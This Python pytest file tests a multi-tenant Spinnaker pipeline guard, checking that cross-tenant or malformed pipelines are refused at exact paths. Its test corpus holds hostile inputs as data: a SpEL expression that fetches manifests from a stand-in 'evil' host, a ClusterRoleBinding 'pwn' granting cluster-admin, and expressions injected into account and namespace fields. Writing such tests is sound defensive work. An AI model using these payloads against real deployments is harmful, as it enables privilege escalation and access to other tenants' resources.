"""The tenant guard refuses every cross-tenant or malformed pipeline at its exact path, and accepts the seeds'."""

from __future__ import annotations

import base64
import copy
import json
import random
from collections.abc import Callable
from typing import Any

import pytest

from spinop.pipelines import TenantScope, check_pipeline, pipeline_id, render_pipeline
from spinop.pipelines.paths import parse_path

from .seed_pipelines import LEGIT, TEAM_A, build_to_dev, goldengoose_build, goldengoose_deploy, promote_to_prod

PID = pipeline_id("team-a", "cr")


def rendered(app: str, body: dict[str, Any]) -> dict[str, Any]:
    return render_pipeline(application=app, name="p", pipeline=body, pipeline_id=PID, owner="team-a/cr")


def check(app: str, body: dict[str, Any], scope: TenantScope = TEAM_A) -> list[str]:
    return [v.path for v in check_pipeline(rendered(app, body), scope)]


@pytest.mark.parametrize("name", sorted(LEGIT))
def test_the_seeds_pipelines_are_accepted(name):
    app, make = LEGIT[name]
    assert check_pipeline(rendered(app, make()), TEAM_A) == []


def stage(body: dict[str, Any], ref: str) -> dict[str, Any]:
    return next(s for s in body["stages"] if s["refId"] == ref)


def put(body: dict[str, Any], path: str, value: Any) -> None:
    """Set the value at a `spec.pipeline...`-relative path (e.g. `stages[0].account`)."""
    parts = parse_path(path)
    node: Any = body
    for part in parts[:-1]:
        node = node[part]
    node[parts[-1]] = value


Case = tuple[str, Callable[[], dict[str, Any]], Callable[[dict[str, Any]], None], list[str]]


def setter(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda body: put(body, path, value)


def add_stage(extra: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
    return lambda body: body["stages"].append({"refId": "x", "requisiteStageRefIds": [], **extra})


# (what, base pipeline, mutation, the exact violation paths under spec.pipeline)
CORPUS: list[Case] = [
    ("another tenant's account", build_to_dev, setter("stages[0].account", "dev-team-b"), ["stages[0].account"]),
    (
        "an account as an expression",
        build_to_dev,
        setter("stages[0].account", "${parameters.account}"),
        ["stages[0].account"],
    ),
    (
        "an account as a #stage() expression",
        build_to_dev,
        setter("stages[0].account", "#stage('x').context.account"),
        ["stages[0].account"],
    ),
    (
        "an account that is not a string",
        build_to_dev,
        setter("stages[0].account", ["dev-team-a"]),
        ["stages[0].account"],
    ),
    (
        "old-style credentials",
        build_to_dev,
        add_stage({"type": "disableCluster", "credentials": "prod-team-b", "cluster": "x"}),
        ["stages[1].credentials"],
    ),
    (
        "deploy stage clusters[].account",
        build_to_dev,
        add_stage({"type": "deploy", "clusters": [{"account": "prod-team-b", "moniker": {"app": "petclinic"}}]}),
        ["stages[1].clusters[0].account"],
    ),
    (
        "deploy stage clusters[].credentials",
        build_to_dev,
        add_stage({"type": "deploy", "clusters": [{"credentials": "${trigger.account}"}]}),
        ["stages[1].clusters[0].credentials"],
    ),
    (
        "kayenta server group pair",
        goldengoose_deploy,
        setter("stages[1].deployments.serverGroupPairs[0].control.account", "prod-team-b"),
        ["stages[1].deployments.serverGroupPairs[0].control.account"],
    ),
    (
        "kayenta baseline account",
        goldengoose_deploy,
        setter("stages[1].deployments.baseline.account", "prod-team-b"),
        ["stages[1].deployments.baseline.account"],
    ),
    (
        "kayenta metrics account",
        promote_to_prod,
        setter("stages[3].canaryConfig.metricsAccountName", "prometheus-team-b"),
        ["stages[3].canaryConfig.metricsAccountName"],
    ),
    (
        "kayenta storage account as an expression",
        promote_to_prod,
        setter("stages[3].canaryConfig.storageAccountName", "${parameters.storage}"),
        ["stages[3].canaryConfig.storageAccountName"],
    ),
    (
        "kayenta scope in another tenant's namespace",
        promote_to_prod,
        setter("stages[3].canaryConfig.scopes[0].controlLocation", "team-b-prod"),
        ["stages[3].canaryConfig.scopes[0].controlLocation"],
    ),
    (
        "manifestArtifactAccount",
        build_to_dev,
        setter("stages[0].manifestArtifactAccount", "github-team-b"),
        ["stages[0].manifestArtifactAccount"],
    ),
    (
        "manifestArtifact.artifactAccount",
        build_to_dev,
        setter("stages[0].manifestArtifact", {"type": "github/file", "artifactAccount": "github-team-b"}),
        ["stages[0].source", "stages[0].manifestArtifact.artifactAccount", "stages[0].manifestArtifact.reference"],
    ),
    (
        "requiredArtifacts[].artifact.artifactAccount",
        build_to_dev,
        setter("stages[0].requiredArtifacts", [{"artifact": {"type": "s3/object", "artifactAccount": "s3-team-b"}}]),
        ["stages[0].requiredArtifacts[0].artifact.artifactAccount"],
    ),
    (
        "expectedArtifacts[].matchArtifact",
        build_to_dev,
        setter("expectedArtifacts[0].matchArtifact.artifactAccount", "github-team-b"),
        ["expectedArtifacts[0].matchArtifact.artifactAccount"],
    ),
    (
        "expectedArtifacts[].defaultArtifact",
        build_to_dev,
        setter("expectedArtifacts[0].defaultArtifact.artifactAccount", "${#readJson('x')}"),
        ["expectedArtifacts[0].defaultArtifact.artifactAccount"],
    ),
    (
        "bake inputArtifacts account",
        build_to_dev,
        add_stage(
            {"type": "bakeManifest", "templateRenderer": "HELM3", "inputArtifacts": [{"account": "github-team-b"}]}
        ),
        ["stages[1].inputArtifacts[0].account"],
    ),
    (
        "docker trigger on another tenant's registry",
        build_to_dev,
        setter("triggers[0].account", "harbor-team-b"),
        ["triggers[0].account"],
    ),
    (
        "jenkins trigger on a build master not granted",
        build_to_dev,
        lambda b: b["triggers"].append({"type": "jenkins", "master": "shared-jenkins", "job": "x", "enabled": True}),
        ["triggers[1].master"],
    ),
    (
        "trigger running as another tenant's service account",
        build_to_dev,
        setter("triggers[0].runAsUser", "team-b-bot@managed-service-account"),
        ["triggers[0].runAsUser"],
    ),
    (
        "pipeline trigger from another application",
        promote_to_prod,
        setter("triggers[1].application", "payments"),
        ["triggers[1].application"],
    ),
    (
        "pipeline trigger application as an expression",
        promote_to_prod,
        setter("triggers[1].application", "${execution.application}"),
        ["triggers[1].application"],
    ),
    (
        "pubsub subscription not granted",
        goldengoose_deploy,
        setter("triggers[1].subscriptionName", "team-b-builds"),
        ["triggers[1].subscriptionName"],
    ),
    (
        "pipeline stage into another application",
        build_to_dev,
        add_stage({"type": "pipeline", "application": "payments", "pipeline": "abc"}),
        ["stages[1].application"],
    ),
    (
        "pipeline stage via pipelineApplication",
        build_to_dev,
        add_stage({"type": "pipeline", "application": "petclinic", "pipelineApplication": "payments", "pipeline": "a"}),
        ["stages[1].pipelineApplication"],
    ),
    (
        "pipeline stage reference as an expression",
        build_to_dev,
        add_stage({"type": "pipeline", "application": "petclinic", "pipeline": "${parameters.target}"}),
        ["stages[1].pipeline"],
    ),
    (
        "reading another application's executions",
        goldengoose_deploy,
        setter("stages[3].application", "payments"),
        ["stages[3].application"],
    ),
    (
        "moniker.app of another application",
        build_to_dev,
        setter("stages[0].moniker.app", "payments"),
        ["stages[0].moniker.app"],
    ),
    (
        "moniker.app as an expression",
        build_to_dev,
        setter("stages[0].moniker.app", "${trigger.app}"),
        ["stages[0].moniker.app"],
    ),
    (
        "manifest into another tenant's namespace",
        build_to_dev,
        setter("stages[0].manifests[0].metadata.namespace", "team-b-dev"),
        ["stages[0].manifests[0].metadata.namespace"],
    ),
    (
        "manifest into prod through the dev account",
        build_to_dev,
        setter("stages[0].manifests[1].metadata.namespace", "team-a-prod"),
        ["stages[0].manifests[1].metadata.namespace"],
    ),
    (
        "manifest into kube-system",
        goldengoose_build,
        setter("stages[0].manifests[0].metadata.namespace", "kube-system"),
        ["stages[0].manifests[0].metadata.namespace"],
    ),
    (
        "manifest namespace as an expression",
        build_to_dev,
        setter("stages[0].manifests[0].metadata.namespace", "${parameters.ns}"),
        ["stages[0].manifests[0].metadata.namespace"],
    ),
    (
        "runJobManifest namespace",
        goldengoose_build,
        setter("stages[1].manifest.metadata.namespace", "team-b-dev"),
        ["stages[1].manifest.metadata.namespace"],
    ),
    (
        "namespaceOverride outside the account",
        goldengoose_deploy,
        setter("stages[0].namespaceOverride", "team-b-prod"),
        ["stages[0].namespaceOverride"],
    ),
    (
        "namespaceOverride as an expression",
        goldengoose_deploy,
        setter("stages[0].namespaceOverride", "${trigger.parameters.ns}"),
        ["stages[0].namespaceOverride"],
    ),
    (
        "delete in another namespace",
        promote_to_prod,
        setter("stages[5].location", "team-b-prod"),
        ["stages[5].location"],
    ),
    (
        "a cluster-scoped object",
        build_to_dev,
        lambda b: b["stages"][0]["manifests"].append(
            {"kind": "ClusterRoleBinding", "metadata": {"name": "pwn"}, "roleRef": {"name": "cluster-admin"}}
        ),
        ["stages[0].manifests[2].kind"],
    ),
    (
        "a namespace object",
        build_to_dev,
        lambda b: b["stages"][0]["manifests"].append({"kind": "Namespace", "metadata": {"name": "team-b-dev"}}),
        ["stages[0].manifests[2].kind"],
    ),
    (
        "a List hiding a foreign namespace",
        build_to_dev,
        lambda b: b["stages"][0]["manifests"].append(
            {"kind": "List", "items": [{"kind": "Secret", "metadata": {"name": "s", "namespace": "team-b-dev"}}]}
        ),
        ["stages[0].manifests[2].items[0].metadata.namespace"],
    ),
    (
        "manifests built by an expression",
        build_to_dev,
        setter("stages[0].manifests", "${#readJson(#fromUrl('http://evil'))}"),
        ["stages[0].manifests"],
    ),
    (
        "one manifest built by an expression",
        build_to_dev,
        setter("stages[0].manifests[0]", "${parameters.m}"),
        ["stages[0].manifests[0]"],
    ),
    (
        "metadata built by an expression",
        build_to_dev,
        setter("stages[0].manifests[0].metadata", "${ {'a': 1} }"),
        ["stages[0].manifests[0].metadata"],
    ),
    (
        "the deprecated redblack strategy",
        build_to_dev,
        setter("stages[0].trafficManagement.options.strategy", "redblack"),
        ["stages[0].trafficManagement.options.strategy"],
    ),
    ("duplicate refIds", promote_to_prod, setter("stages[5].refId", "prod"), ["stages[5].refId"]),
    (
        "a requisite that does not exist",
        promote_to_prod,
        setter("stages[1].requisiteStageRefIds", ["nope"]),
        ["stages[1].requisiteStageRefIds[0]"],
    ),
    (
        "a cycle",
        promote_to_prod,
        setter("stages[0].requisiteStageRefIds", ["cleanup"]),
        ["stages[0].requisiteStageRefIds"],
    ),
    (
        "a stage without a refId",
        goldengoose_build,
        lambda b: b["stages"][0].pop("refId"),
        ["stages[0].refId", "stages[1].requisiteStageRefIds[0]"],
    ),
    (
        "an undeclared artifact",
        build_to_dev,
        setter("stages[0].requiredArtifactIds", ["ghost"]),
        ["stages[0].requiredArtifactIds[0]"],
    ),
    (
        "a trigger expecting an undeclared artifact",
        build_to_dev,
        setter("triggers[0].expectedArtifactIds", ["ghost"]),
        ["triggers[0].expectedArtifactIds[0]"],
    ),
    ("a templated pipeline", build_to_dev, setter("type", "templatedPipeline"), ["type"]),
    (
        "an MPTv2 template reference",
        build_to_dev,
        setter("template", {"reference": "spinnaker://shared"}),
        ["template"],
    ),
    ("pipeline roles not granted", build_to_dev, setter("roles", ["spinnaker-admins"]), ["roles[0]"]),
    ("a service account not granted", build_to_dev, setter("serviceAccount", "admin-bot"), ["serviceAccount"]),
    ("stages that are not a list", build_to_dev, setter("stages", {"0": {}}), ["stages"]),
    ("a stage that is not an object", build_to_dev, lambda b: b["stages"].append("deploy"), ["stages[1]"]),
    (
        "duplicate parameter names",
        promote_to_prod,
        lambda b: b["parameterConfig"].append({"name": "replicas"}),
        ["parameterConfig[1].name"],
    ),
]


@pytest.mark.parametrize(("what", "base", "mutate", "paths"), CORPUS, ids=[c[0] for c in CORPUS])
def test_hostile_pipelines_are_refused_at_the_exact_path(what, base, mutate, paths):
    app = "goldengoose" if base in (goldengoose_build, goldengoose_deploy) else "petclinic"
    body = base()
    mutate(body)
    assert check(app, body) == [f"spec.pipeline.{p}" for p in paths], what


def test_the_corpus_is_large_enough():
    assert len(CORPUS) >= 25 and all(case[3] for case in CORPUS)


def test_an_application_the_namespace_does_not_own():
    violations = check_pipeline(rendered("payments", build_to_dev()), TEAM_A)
    assert [v.path for v in violations] == ["spec.application", "spec.pipeline.stages[0].moniker.app"]
    assert "owned: goldengoose, petclinic" in violations[0].message


def test_messages_say_what_is_allowed():
    body = build_to_dev()
    body["stages"][0]["account"] = "prod-team-b"
    body["stages"][0]["manifests"][0]["metadata"]["namespace"] = "team-b"
    [account, namespace] = check_pipeline(rendered("petclinic", body), TEAM_A)
    assert account.message == (
        "account 'prod-team-b' is not a Ready account of namespace team-a; allowed: dev-team-a, prod-team-a"
    )
    assert namespace.path == "spec.pipeline.stages[0].manifests[0].metadata.namespace"
    assert "team-a-dev" in namespace.message and "team-a-prod" in namespace.message
    expression = build_to_dev()
    expression["stages"][0]["account"] = "${parameters.account}"
    [refused] = check_pipeline(rendered("petclinic", expression), TEAM_A)
    assert "expression" in refused.message and "run" in refused.message


def test_an_account_that_is_not_ready_is_not_in_scope():
    not_ready = TenantScope(
        namespace="team-a",
        accounts={"dev-team-a": {"team-a-dev"}},
        applications={"petclinic"},
        artifact_accounts={"docker-registry"},
        registry_accounts={"harbor-team-a"},
    )
    body = promote_to_prod()
    paths = [v.path for v in check_pipeline(rendered("petclinic", body), not_ready)]
    assert "spec.pipeline.stages[1].account" in paths and "spec.pipeline.stages[5].account" in paths


def test_manifests_from_artifacts_the_guard_cannot_read_are_refused():
    # Issue 15 item 5: a manifest fetched or produced at run time can hold any kind, namespace or application,
    # even on a one-namespace account (clouddriver's namespaces setting does not stop a cluster-scoped kind).
    body = build_to_dev()
    body["stages"][0].update(source="artifact", manifestArtifactId="petclinic-image")
    body["stages"][0].pop("manifests")
    assert check("petclinic", body) == ["spec.pipeline.stages[0].source"]


def embedded(*manifests: dict[str, Any]) -> dict[str, Any]:
    text = "\n---\n".join(json.dumps(m) for m in manifests)
    return {"type": "embedded/base64", "name": "m", "reference": base64.b64encode(text.encode()).decode()}


def test_an_inline_embedded_manifest_is_read_and_checked_like_any_other():
    body = build_to_dev()
    manifests = body["stages"][0].pop("manifests")
    body["stages"][0].update(source="artifact", manifestArtifact=embedded(*manifests))
    assert check("petclinic", body) == []
    foreign = copy.deepcopy(manifests[0])
    foreign["metadata"]["namespace"] = "team-b-dev"
    body["stages"][0]["manifestArtifact"] = embedded(manifests[1], foreign)
    assert check("petclinic", body) == ["spec.pipeline.stages[0].manifestArtifact.reference[1].metadata.namespace"]
    body["stages"][0]["manifestArtifact"] = embedded({"kind": "ClusterRole", "metadata": {"name": "x"}})
    assert check("petclinic", body) == ["spec.pipeline.stages[0].manifestArtifact.reference[0].kind"]
    body["stages"][0]["manifestArtifact"] = {"type": "embedded/base64", "reference": "not base64!"}
    assert check("petclinic", body) == ["spec.pipeline.stages[0].manifestArtifact.reference"]


def test_multi_namespace_accounts_need_an_explicit_namespace():
    wide = TenantScope(
        namespace="team-a",
        accounts={"dev-team-a": {"team-a-dev", "team-a-dev2"}},
        applications={"petclinic"},
        artifact_accounts={"docker-registry"},
        registry_accounts={"harbor-team-a"},
    )
    body = build_to_dev()
    del body["stages"][0]["manifests"][1]["metadata"]["namespace"]
    assert check("petclinic", body, wide) == ["spec.pipeline.stages[0].manifests[1].metadata.namespace"]
    manifests = body["stages"][0].pop("manifests")
    del manifests[0]["metadata"]["namespace"]
    body["stages"][0].update(source="artifact", manifestArtifact=embedded(*manifests))
    assert check("petclinic", body, wide) == [
        "spec.pipeline.stages[0].manifestArtifact.reference[0].metadata.namespace",
        "spec.pipeline.stages[0].manifestArtifact.reference[1].metadata.namespace",
    ]
    body["stages"][0]["namespaceOverride"] = "team-a-dev2"
    assert check("petclinic", body, wide) == []


def test_the_pipelines_own_managed_service_account_is_allowed():
    body = build_to_dev()
    body["triggers"][0]["runAsUser"] = f"{PID}@managed-service-account"
    assert check("petclinic", body) == []


def test_granted_extras_are_accepted():
    scope = TenantScope(
        namespace="team-a",
        accounts=TEAM_A.accounts,
        applications={"petclinic"},
        artifact_accounts=TEAM_A.artifact_accounts,
        registry_accounts=TEAM_A.registry_accounts,
        build_services={"team-a-jenkins"},
        service_accounts={"team-a-bot"},
        roles={"team-a"},
    )
    body = build_to_dev()
    body["roles"] = ["team-a"]
    body["triggers"].append({"type": "jenkins", "master": "team-a-jenkins", "job": "build", "runAsUser": "team-a-bot"})
    body["stages"].append(
        {"refId": "2", "requisiteStageRefIds": ["1"], "type": "jenkins", "master": "team-a-jenkins", "job": "smoke"}
    )
    assert check("petclinic", body, scope) == []


def test_the_report_is_deterministic_and_complete():
    body = build_to_dev()
    for s in body["stages"]:
        s["account"] = "prod-team-b"
    body["triggers"][0]["account"] = "harbor-team-b"
    first = check_pipeline(rendered("petclinic", body), TEAM_A)
    assert first == check_pipeline(rendered("petclinic", copy.deepcopy(body)), TEAM_A)
    assert [v.path for v in first] == ["spec.pipeline.stages[0].account", "spec.pipeline.triggers[0].account"]


def random_json(rng: random.Random, depth: int = 0) -> Any:
    roll = rng.random()
    if depth > 3 or roll < 0.35:
        return rng.choice([None, True, 0, -1, 3.5, "", "x", "${a}", "#b", "team-a-dev", "dev-team-a", [], {}])
    if roll < 0.65:
        return [random_json(rng, depth + 1) for _ in range(rng.randint(0, 3))]
    keys = [
        "account",
        "credentials",
        "manifests",
        "metadata",
        "namespace",
        "refId",
        "requisiteStageRefIds",
        "type",
        "stages",
        "triggers",
        "application",
        "moniker",
        "app",
        "artifactAccount",
        "location",
        "namespaceOverride",
        "trafficManagement",
        "options",
        "strategy",
        "items",
        "kind",
        "expectedArtifacts",
    ]
    return {rng.choice(keys): random_json(rng, depth + 1) for _ in range(rng.randint(0, 4))}


def test_any_shape_yields_violations_never_an_exception():
    rng = random.Random(1234)
    legit = [make() for _, make in LEGIT.values()]
    assert check_pipeline("not an object", TEAM_A)[0].path == "spec.pipeline"
    for _ in range(400):
        body = copy.deepcopy(rng.choice(legit))
        # replace a random node somewhere in the body by random JSON
        node: Any = body
        for _ in range(rng.randint(1, 5)):
            children = list(node.items()) if isinstance(node, dict) else list(enumerate(node))
            if not children:
                break
            key, child = rng.choice(children)
            if not isinstance(child, dict | list) or rng.random() < 0.3:
                node[key] = random_json(rng)
                break
            node = child
        body["stages"] = body.get("stages") if rng.random() < 0.8 else random_json(rng)
        result = check_pipeline({**body, "application": "petclinic", "id": PID}, TEAM_A)
        assert all(v.path.startswith(("spec.pipeline", "spec.application")) for v in result)


def test_a_cycle_names_its_stages_in_run_order():
    body = promote_to_prod()
    body["stages"][0]["requisiteStageRefIds"] = ["cleanup"]
    [cycle] = check_pipeline(rendered("petclinic", body), TEAM_A)
    assert cycle.message == "the stages form a cycle: judge -> canary -> aca -> prod -> cleanup -> judge"
    body = build_to_dev()
    body["stages"][0]["requisiteStageRefIds"] = ["1"]
    assert [v.message for v in check_pipeline(rendered("petclinic", body), TEAM_A)] == [
        "the stages form a cycle: 1 -> 1"
    ]
